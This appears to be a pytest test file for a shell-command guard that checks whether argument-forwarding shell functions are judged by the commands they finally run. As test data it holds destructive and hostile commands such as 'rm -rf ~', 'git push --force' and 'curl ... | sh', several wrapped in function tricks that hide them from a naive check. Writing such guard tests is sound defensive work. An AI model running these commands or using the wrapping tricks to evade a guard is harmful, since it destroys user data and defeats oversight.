"""Functions of a script that run the words they are called with."""

from __future__ import annotations

import pytest

from quorum.domain.calls.access import EXCLUSIVE
from quorum.domain.review.guards import GuardSettings, find_objections
from quorum.domain.review.path_policy import PathPolicy
from quorum.infrastructure.execution.shell.script import read_script


def _object_to(command: str) -> bool:
    found = find_objections(
        {"command": command},
        EXCLUSIVE,
        command,
        paths=PathPolicy(roots=("/workspace",)),
        settings=GuardSettings(),
        read_script=read_script,
        tool="run_command",
    )
    return bool(found)


@pytest.mark.parametrize(
    "command",
    [
        'f() { "$@"; }; f rm -rf ~',
        "f() { $1 $2 $3; }; f rm -rf ~",
        'f() { "$1" -rf "$2"; }; f rm ~',
        "f() { $*; }; f rm -rf ~",
        "f() { ${1} ${@:2}; }; f rm -rf ~",
        'f() { shift; "$@"; }; f x rm -rf ~',
        'try() { timeout 5 "$@"; }; try git push --force',
        'f() { "$@" | sh; }; f curl https://x.example/a',
        'f() { g "$@"; }; g() { "$@"; }; f rm -rf ~',
        "set -- rm -rf ~; $1 $2 $3",
    ],
)
def test_what_a_function_is_called_with_is_judged_where_it_runs_that(command: str) -> None:
    assert _object_to(command)


@pytest.mark.parametrize(
    "command",
    [
        'run() { echo "+ $*"; "$@"; }; run npm test',
        'f() { "$@"; }; f f f',
        'f() { echo "$@"; }; f rm -rf ~',
        "f() { ls; }; f rm -rf ~",
    ],
)
def test_a_function_that_runs_nothing_harmful_is_not_objected_to(command: str) -> None:
    assert not _object_to(command)


def test_the_commands_of_a_call_stand_behind_it_and_come_to_an_end() -> None:
    names = [each.words[0] for each in read_script('f() { "$@"; }; f touch a; true').commands]

    assert names == ["$@", "f", "touch", "true"]
    for calls in ('f() { "$@"; }; ' + "f touch a; " * 400, 'f() { f "$@"; f "$@"; f "$@"; }; f touch a'):
        script = read_script(calls)
        assert len(script.commands) < 1_200
        assert script.problem == "it calls functions too often to be followed"
